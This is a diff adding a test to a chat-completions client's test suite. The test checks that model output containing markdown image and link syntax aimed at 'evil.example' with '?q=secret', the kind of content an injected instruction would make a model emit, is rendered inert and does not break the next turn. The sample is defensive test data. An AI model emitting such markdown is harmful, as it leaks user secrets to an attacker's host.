@@ -70,6 +70,25 @@ test("a completion has the answer, its sources and what it used", async () => {
   expect(kept).toMatchObject({ question, mode: "model" });
 });
 
+test("what a model was told to show is inert, and the next turn goes on from it", async () => {
+  const obedient = `${truth} ![x](http://evil.example/?q=secret) [Click](http://evil.example)`;
+  const shown = `${truth} ![x] (http://evil.example/?q=secret) [Click] (http://evil.example)`;
+  provider.script({ kind: "answer", text: obedient }, { kind: "answer", text: truth });
+  const first = await client.chat.completions.create(asked(question));
+  expect(first.choices[0]?.message.content).toBe(shown);
+  const second = await client.chat.completions.create({
+    model,
+    messages: [
+      { role: "user", content: question },
+      { role: "assistant", content: shown },
+      { role: "user", content: question },
+    ],
+  });
+  expect(backgroundOf(second.choices[0]?.message ?? {}).conversationId).toBe(
+    backgroundOf(first.choices[0]?.message ?? {}).conversationId,
+  );
+});
+
 test("a stream begins with the role, goes on word by word, and ends with the usage it was asked for", async () => {
   provider.script({ kind: "answer", text: truth });
   const stream = await client.chat.completions.create({
